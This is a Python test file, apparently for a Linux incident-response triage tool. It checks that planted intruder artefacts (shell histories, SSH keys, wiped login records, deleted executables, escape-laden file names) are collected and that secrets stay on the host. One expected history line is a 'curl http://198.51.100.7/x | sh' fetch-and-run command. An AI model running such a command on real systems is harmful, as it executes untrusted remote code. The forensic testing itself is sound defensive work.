# SPDX-FileCopyrightText: Contributors to the csirt.linux_triage collection
# SPDX-License-Identifier: GPL-3.0-or-later

"""Everything that files/plant.py left on the host came home, and nothing that must not."""

from __future__ import annotations

import hashlib
import json

import pytest

testinfra_hosts = ['ansible://suspect_hosts']

PLANTED = [
    '/etc/cron.d/planted', '/etc/passwd', '/etc/ssh/keys/backup', '/etc/ssh/sshd_config.d/50-keys.conf',
    '/home/ghost/.bash_history', '/home/with space/.zsh_history', '/opt/.elsewhere', '/root/.bash_history',
    '/root/.bashrc', '/root/.ssh/authorized_keys', '/root/.ssh/id_planted.pub',
    '/var/spool/cron/crontabs/www-data', '/var/www/.mysql_history',
]
KEY = 'SHA256:'


def rows_with(rows, **facts):
    return [row for row in rows if all(row.get(key) == value for key, value in facts.items())]


@pytest.mark.parametrize('path', PLANTED)
def test_planted_file_is_home_byte_for_byte(host, archive, path):
    member = archive.members[b'[root]' + path.encode()]
    there = host.check_output('sudo sha256sum %s', path).split()[0].lstrip('\\')
    assert hashlib.sha256(archive.read(b'[root]' + path.encode())).hexdigest() == there
    assert member.mtime == int(host.check_output('sudo stat -c %%Y %s', path))
    assert '%o' % member.mode == host.check_output('sudo stat -c %%a %s', path)


def test_no_secret_left_the_host(host, archive):
    key = host.check_output('sudo cat /root/.ssh/id_planted').encode()
    secrets = [b'PLANTEDHASHPLANTEDHASH', b'saltsalt', b'abJnggxhB/yWI', key.splitlines()[2]]
    for name, member in archive.members.items():
        if member.isfile():
            content = archive.read(name)
            assert not [secret for secret in secrets if secret in content], name


def test_password_methods_are_known_without_their_hashes(archive):
    shadow = archive.table('shadow')
    (locked,) = rows_with(shadow, user='toor', file='/etc/shadow')
    assert (locked['method'], locked['locked']) == ('sha512', True)
    (old,) = rows_with(shadow, user='oldhash', file='/etc/shadow')
    assert (old['method'], old['locked']) == ('des', False)


def test_private_key_is_described(archive):
    (key,) = rows_with(archive.table('private_keys'), path='/root/.ssh/id_planted')
    assert key['encrypted'] is False
    assert key['fingerprint'].startswith(KEY)


def test_authorized_keys_are_found_where_sshd_looks(archive):
    keys = {row['path'] for row in archive.table('ssh_keys') if row['kind'] == 'authorized'}
    assert {'/root/.ssh/authorized_keys', '/etc/ssh/keys/backup'} <= keys


def test_history_is_read_line_by_line(archive):
    rows = [row for row in archive.table('history') if row['path'] == '/root/.bash_history']
    assert [(row['time'], row['command']) for row in rows] == [
        ('2025-11-23T04:51:33Z', 'curl http://198.51.100.7/x | sh'),
        ('2025-11-23T04:51:40Z', 'echo "a\\\\tb"   *   \\xff\\\\n last line'),
    ]


def test_wiped_login_records_are_marked(archive):
    rows = [row for row in archive.table('logins') if row['file'] == '/var/log/wtmp']
    first = [row.get('user') for row in rows].index('mallory')
    rows = rows[first:first + 3]
    assert [bool(row.get('zeroed')) for row in rows] == [False, True, False]
    assert [bool(row.get('out_of_order')) for row in rows] == [False, False, True]


@pytest.mark.parametrize('path, state', [
    ('/home/mallory/.bash_history', 'skipped_type'), ('/home/mallory/.zsh_history', 'skipped_type'),
    ('/home/mallory/.python_history', 'skipped_type'), ('/home/mallory/.mysql_history', 'withheld'),
    ('/home/mallory/.sh_history', 'skipped_type'), ('/home/mallory/.psql_history', 'truncated'),
    ('/home/mallory/.bash_history-\\x0a\\x1b[31mred\\xff', 'collected'),
])
def test_trap_has_its_state(archive, path, state):
    assert {row['state'] for row in archive.manifest() if row.get('path') == path} == {state}


def test_growing_history_came_home(archive):
    (row,) = rows_with(archive.manifest(), path='/home/mallory/.node_repl_history')
    content = archive.read(b'[root]/home/mallory/.node_repl_history')
    assert row['state'] in ('collected', 'changed')
    assert content.startswith(b'0\n1\n2\n')
    assert len(content) == row['size']


def test_deleted_programs_are_recovered_whole(host, archive):
    original = host.check_output('sha256sum /bin/sleep').split()[0]
    recovered = {hashlib.sha256(archive.read(name)).hexdigest() for name in archive.members
                 if name.startswith(b'live/recovered/')}
    assert original in recovered
    executables = {row['exe'] for row in archive.table('processes') if row.get('exe_deleted')}
    assert executables == {'/var/tmp/.x (deleted)', '/memfd:planted (deleted)'}


def test_deleted_open_file_is_recovered(archive):
    contents = [archive.read(name) for name in archive.members if name.startswith(b'live/recovered/')]
    assert b'what the intruder typed\n' * 100 in contents


@pytest.mark.parametrize('check', ['D2', 'D6', 'D7'])
def test_views_disagree_where_something_hides(archive, check):
    assert rows_with(archive.table('cross_views'), check=check)


def test_listener_is_joined_to_its_process(archive):
    (row,) = [row for row in archive.table('sockets')
              if row.get('local_port') == 31337 and row.get('state') == 'listen']
    assert row['pids']


def test_web_roots_are_found_where_servers_run(host, archive):
    roots = {row['path'] for row in archive.table('web_services') if row['kind'] == 'root'}
    expected = {'/var/www/html'} if host.file('/etc/nginx').exists else set()
    assert roots >= expected


def test_listing_has_what_find_has(host, archive):
    rows = {row['path']: row for row in archive.table('files')}
    assert rows['/usr/bin/planted-suid']['mode'].endswith('4755')
    assert 'cap_net_raw' in rows['/usr/bin/planted-cap']['capabilities']
    assert '/var/www/html/\\x0a\\x1b]0;title\\x07.php' in rows
    assert [path for path in rows if path.endswith('/deep') and len(path) > 4096]
    listed = set(host.check_output("sudo find /etc /usr /var/www -xdev -name '[a-z]*'").splitlines())
    plain = {path for path in listed if path.isascii() and '\\' not in path}
    assert plain - rows.keys() == set()


def test_archive_is_complete_and_says_so(archive):
    run = json.loads(archive.read(b'run.json'))
    assert run['complete'] is True
    assert run['missing'] == run['cut'] == run['damaged'] == []
    top = {name.decode() for name in archive.members if b'/' not in name}
    assert {'0_SCRIPT-ERRORS.txt', '1_OUTPUT-TREE.txt', 'bodyfile.txt.gz'} <= top
